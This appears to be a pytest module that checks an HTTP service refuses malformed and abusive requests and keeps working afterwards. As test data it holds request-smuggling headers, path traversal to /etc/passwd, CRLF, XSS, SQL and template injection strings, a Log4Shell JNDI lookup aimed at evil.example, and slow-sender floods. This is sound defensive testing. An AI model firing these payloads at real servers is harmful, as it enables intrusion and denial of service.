"""HTTP that is broken, ambiguous or abusive: refused cleanly, and the next request is as before."""

import re
import socket
import struct
import time

import pytest

from tests.hostile.raw import (
    ALIVE,
    assert_answered,
    assert_problem,
    connect,
    read,
    request,
    say,
)

pytestmark = pytest.mark.usefixtures("unharmed")

LOGIN = "/api/service1/tokens"
LIVE = "/api/service1/health/live"
JSON = "Content-Type: application/json"
NOBODY = b'{"username": "nobody", "password": "nothing"}'
SMUGGLED = b"GET /api/service1/internal/smuggled HTTP/1.1\r\nHost: quartet\r\n\r\n"
CHUNKED = "Transfer-Encoding: chunked"


def chunk(data):
    return b"%x\r\n%s\r\n" % (len(data), data)


WHOLE = chunk(NOBODY) + b"0\r\n\r\n"

# ---- where a body ends


@pytest.mark.parametrize(
    "headers",
    [
        [f"Content-Length: {len(WHOLE)}", CHUNKED],
        [CHUNKED, "Content-Length: 4"],
        [CHUNKED, CHUNKED],
        ["Transfer-Encoding : chunked"],
        ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        [" Transfer-Encoding: chunked"],
        ["Content-Length: 45", "Content-Length: 46"],
        ["Content-Length: 45", "Content-Length: 45"],
        ["Content-Length: +45"],
        ["Content-Length: -45"],
        ["Content-Length: 4 5"],
        ["Content-Length: 45,45"],
        ["Content-Length: 0x2d"],
        ["Content-Length: 4e1"],
        ["Content-Length: "],
        ["Content-Length: fourty-five"],
        ["Content-Length: 99999999999999999999999"],
        ["Content-Length: 18446744073709551616"],
        [b"Content-Length: 4\x005"],
    ],
    ids=str,
)
def test_a_body_of_two_lengths_or_none_is_refused(stack, headers):
    told = request("POST", LOGIN, JSON, *headers, body=WHOLE, length=False)

    assert_problem(say(stack, told, SMUGGLED), 400, 413)


@pytest.mark.parametrize(
    "coding",
    ["rot13", "gzip, chunked", "chunked, gzip", "xchunked", "chunked, chunked", '"chunked"'],
)
def test_a_transfer_encoding_that_is_not_known_is_not_implemented(stack, coding):
    told = request("POST", LOGIN, JSON, f"Transfer-Encoding: {coding}", body=WHOLE, length=False)

    assert_problem(say(stack, told), 501)


@pytest.mark.parametrize(
    "body",
    [
        WHOLE,
        b"".join(chunk(bytes([byte])) for byte in NOBODY) + b"0\r\n\r\n",
        WHOLE.replace(b"\r\n", b";extension=1\r\n", 1),
        chunk(NOBODY) + b"0\r\nTrailer: 1\r\n\r\n",
        b"%08x\r\n%s\r\n000\r\n\r\n" % (len(NOBODY), NOBODY),
    ],
    ids=["whole", "byte by byte", "extension", "trailer", "leading zeros"],
)
def test_a_chunked_body_arrives(stack, body):
    answer = say(stack, request("POST", LOGIN, JSON, CHUNKED, body=body, length=False))

    assert_problem(answer, 401)
    assert answer.json["code"] == "bad_credentials"


@pytest.mark.parametrize(
    "body",
    [
        b"x\r\n",
        b"-1\r\n\r\n0\r\n\r\n",
        b"0x5\r\nabcde\r\n0\r\n\r\n",
        b"ffffffffffffffffffff\r\n",
        b"7fffffffffffffff\r\n",
        b"5\r\nabcdefgh\r\n0\r\n\r\n",
        b"5;\r\nabcde0\r\n\r\n",
        b"\r\n\r\n",
        b" 5\r\nabcde\r\n0\r\n\r\n",
    ],
)
def test_a_broken_chunk_is_refused(stack, body):
    told = request("POST", LOGIN, JSON, CHUNKED, body=body, length=False)

    assert_problem(say(stack, told), 400, 413)


def test_a_chunked_body_without_end_is_too_large(stack):
    told = request("POST", LOGIN, JSON, CHUNKED, body=chunk(b"x" * 65_536) * 20, length=False)

    assert_problem(say(stack, told), 413)


def test_who_leaves_in_the_middle_of_a_body_harms_nobody(stack):
    for number in range(60):
        with connect(stack) as connection:
            connection.sendall(
                request("POST", LOGIN, JSON, "Content-Length: 900000", body=b"{", length=False)
            )
            if number % 2:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    assert say(stack, ALIVE).status == 200


def test_a_client_may_ask_before_it_sends(stack):
    length = f"Content-Length: {len(NOBODY)}"
    with connect(stack) as connection:
        connection.sendall(request("POST", LOGIN, JSON, length, "Expect: 100-continue"))
        assert connection.recv(100) == b"HTTP/1.1 100 Continue\r\n\r\n"
        connection.sendall(NOBODY)
        answer, _ = read(connection)

    assert_problem(answer, 401)
    assert_answered(say(stack, request("GET", LIVE, "Expect: the-unexpected")))


def test_requests_in_a_row_are_answered_in_a_row(stack):
    with connect(stack) as connection:
        last = request("GET", LIVE, "Connection: close")
        connection.sendall(ALIVE + request("GET", "/nowhere") + last)
        answers = b"".join(iter(lambda: connection.recv(65_536), b""))

    assert re.findall(rb"HTTP/1\.1 (\d+) ", answers) == [b"200", b"404", b"200"]


# ---- the first line


@pytest.mark.parametrize(
    ("line", "status"),
    [
        ("GET {} HTTP/1.1", 400),
        ("GET {} HTTP/2.0", 400),
        ("GET {} HTTP/9.9", 400),
        ("GET {} HTTP/1.", 400),
        ("GET {} HTTP/-1.1", 400),
        ("GET {} HTTP/11111111111.1", 400),
        ("GET {} http/1.1", 400),
        ("GET {} SPDY/3", 400),
        ("GET  {} {} HTTP/1.1", 400),
        ("GET", 400),
        ("\r\n?", 400),
        ("{} GET HTTP/1.1", 400),
        ("get {} HTTP/1.1", 400),
        ("G\x00T {} HTTP/1.1", 400),
        ("PRI * HTTP/2.0", 400),
        ("CONNECT quartet:443 HTTP/1.1", 400),
    ],
)
def test_a_first_line_that_is_none_is_refused(stack, line, status):
    answer = say(stack, f"{line.format(LIVE, LIVE)}\r\n\r\n".encode(), b"\r\n" * 2)

    assert_problem(answer, status, 405)


@pytest.mark.parametrize("method", ["TRACE", "BREW", "PROPFIND", "QUERY", "A" * 300, "DELETE"])
def test_a_method_that_is_not_meant_names_those_that_are(stack, method):
    answer = say(stack, request(method, LIVE))

    assert_problem(answer, 405)
    assert "GET" in answer.headers["Allow"]


def test_old_http_is_spoken(stack):
    assert say(stack, f"GET {LIVE} HTTP/1.0\r\n\r\n".encode()).status == 200
    with connect(stack) as connection:
        connection.sendall(f"GET {LIVE}\r\n".encode())
        assert connection.recv(1000) == b'{"status":"live"}'


def test_what_is_no_http_at_all_is_refused(stack):
    tls = bytes.fromhex("16030100c8010000c40303") + bytes(200)

    assert_problem(say(stack, tls), 400)
    assert_problem(say(stack, b"\0" * 500), 400)
    assert_problem(say(stack, b"SSH-2.0-OpenSSH_9.2\r\n\r\n"), 400)


# ---- headers


@pytest.mark.parametrize(
    "headers",
    [
        ["X-Long: " + "x" * 31_000],
        [f"X-Many-{number}: {'x' * 300}" for number in range(100)],
        [f"A{number}: " for number in range(5_000)],
        ["Cookie: " + "a=b; " * 8_000],
        ["Authorization: Bearer " + "e" * 16_000],
    ],
    ids=["31 kB in one", "31 kB in 100", "5,000", "cookies", "a token"],
)
def test_headers_beyond_all_measure_are_refused(stack, headers):
    assert_problem(say(stack, request("GET", LIVE, *headers)), 431)


@pytest.mark.parametrize(
    "header",
    [
        b"X-Null: a\x00b",
        b"no colon",
        b": no name",
        b"X Y: z",
        b"Host: another",
        b"Host: \x00",
    ],
)
def test_a_header_that_is_none_is_refused(stack, header):
    assert_problem(say(stack, request("GET", LIVE, header)), 400)


def test_a_request_for_no_host_is_refused(stack):
    assert_problem(say(stack, f"GET {LIVE} HTTP/1.1\r\n\r\n".encode()), 400)
    assert_problem(say(stack, f"GET {LIVE} HTTP/1.1\r\nHost: a/b\r\n\r\n".encode()), 400)


@pytest.mark.parametrize(
    "header",
    [
        b"X-Request-ID: a\tb",
        b"X-Request-ID: \xff\xfe",
        b"X-Request-ID: a%0d%0aSet-Cookie: b=1",
        b"traceparent: 00-zz",
        b"traceparent: " + b"0" * 5_000,
        b"X-Request-Timeout: NaN",
        b"X-Request-Timeout: -1",
        b"Accept: " + b"*/*," * 1_000,
        b"Accept: \xff",
        b"Accept-Encoding: " + b"gzip;q=9," * 500,
        b"Range: bytes=0-18446744073709551615,-1",
        b'If-None-Match: "\xff", W/',
        b"If-Modified-Since: yesterday",
        b"Connection: close, Host, X-Request-ID",
        b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk",
        b"X-HTTP-Method-Override: DELETE",
        b"X-Original-URL: /api/service1/internal/events",
        b"X-Rewrite-URL: /metrics",
        b"SCRIPT_NAME: /api/service2",
        b"Content-Length: 0",
        b"Cookie: \xff=\xfe; =; ;;",
        b"Idempotency-Key: \xc3\x28",
        b'Forwarded: for="_gazonk"',
        b"\xff\xfe: y",
        b"X-Bare: a\rb",
    ],
)
def test_odd_headers_change_nothing(stack, header):
    for path in (LIVE, "/api/service2/products", "/api/service3/orders"):
        answer = say(stack, request("GET", path, header))

        assert_answered(answer)
        assert "Set-Cookie" not in answer.headers


def test_two_keys_in_one_request_are_refused(stack):
    """uWSGI tells the application the last of two headers, and hides the first."""
    keys = ("Idempotency-Key: one", "Idempotency-Key: two")
    json = "Content-Type: application/json"

    answer = say(stack, request("POST", "/api/service1/users", json, *keys, body="{}"))

    assert (answer.status, answer.json["code"]) == (400, "bad_idempotency_key")


# ---- addresses


@pytest.mark.parametrize(
    "end",
    [
        "/%00",
        "/7%00",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/../../../../etc/passwd",
        "/%252e%252e%252f",
        "/%2f%2f",
        "//",
        "/..;/",
        "/\\..\\..",
        "/%5c..%5c",
        "/%c0%ae%c0%ae/%c0%af",
        "/%ff%fe",
        b"/\xff\xfe",
        b"/\xc3\xa9",
        "/%ed%a0%80",
        "/%f8%80%80%80%80",
        "/%",
        "/%zz",
        "/%u0037",
        b"/a\x01b",
        b"/a\x7fb",
        "/7 HTTP/1.1",
        "/%0d%0aSet-Cookie:%20a=b",
        "/%20",
        "/<script>alert(1)</script>",
        "/{{7*7}}",
        "/${jndi:ldap://evil.example/a}",
        "/' OR 1=1 --",
        "/0",
        "/-1",
        "/+7",
        "/7.0",
        "/1e3",
        "/0x7",
        "/007",
        "/%d9%a7",
        "/9223372036854775807",
        "/9223372036854775808",
        "/18446744073709551616",
        "/" + "9" * 5_000,
        "/" + "x/" * 2_000,
        "/7/../7",
        "/7/",
        "/internal/events",
        "?page=%00",
        "?page=-1",
        "?page=1e9",
        "?page=99999999999999999999999",
        "?page=2147483648&limit=100",
        "?page=%d9%a7",
        "?page=1&page=2",
        "?page[]=1",
        "?limit=0",
        "?limit=101",
        "?limit=" + "9" * 5_000,
        "?after=%00%ff",
        "?q=%ff%fe",
        "?q=%ed%a0%80",
        "?q=%00",
        "?q=" + "%25" * 2_000,
        "?q=%25%5f%5c'\";--",
        b"?q=\xff\xfe",
        "?from=0000-00-00&to=9999-99-99",
        "?from=9999-12-31T23:59:59-23:59",
        "?from=2026-01-31T09:30:00%00Z",
        "?min_price=1e400&max_price=NaN",
        "?min_price=-0",
        "?email=%00@%00",
        "?=&&&=;;",
        "?" + "&".join(f"a{number}=" for number in range(900)),
        "?%00=1",
        "?__proto__=1",
        "#fragment",
    ],
)
def test_an_address_that_means_harm_finds_nothing(stack, admin_header, end):
    end = end if isinstance(end, bytes) else end.encode()
    for place in (b"/api/service1/users", b"/api/service2/products", b"/api/service3/orders",
                  b"/api/service4/notifications"):  # fmt: skip
        answer = say(stack, request("GET", place + end, admin_header))

        assert_answered(answer)
        assert "Set-Cookie" not in answer.headers
        assert b"root:" not in answer.body


@pytest.mark.parametrize(
    "target",
    ["http://quartet/api/service1/internal/events", "http://evil.example/metrics", "*", "/*",
     "quartet:80", "//evil.example/", "http://", "/api/service1/%69nternal/events",
     "/api/service1/./internal/events", "/api/service1/internal%2fevents",
     "/api/service1/internal;/events", "/api/service1/INTERNAL/events",
     "/api/service1/x/..%2finternal/events",
     "/problems/no_route", "/" + "x" * 20_000],
    ids=lambda target: target[:60],
)  # fmt: skip
def test_no_spelling_leads_inside(stack, target):
    for method in ("GET", "POST"):
        assert_problem(say(stack, request(method, target)), 400, 404, 405, 414)


def test_an_absolute_address_is_that_address(stack):
    assert say(stack, request("GET", f"http://quartet{LIVE}")).status == 200


# ---- time


def test_slow_senders_are_let_go_and_hold_nobody_up(stack):
    slow = [connect(stack, seconds=20) for _ in range(100)]
    start = time.monotonic()
    for number, connection in enumerate(slow):
        head = request("POST", LOGIN, JSON, "Content-Length: 45", body=b'{"us', length=False)
        connection.sendall(head if number % 2 else head[:40])

    assert say(stack, ALIVE).status == 200
    assert time.monotonic() - start < 5
    for connection in slow:
        with connection:
            assert b"HTTP/1.1 2" not in connection.recv(1000)
    assert time.monotonic() - start < 15
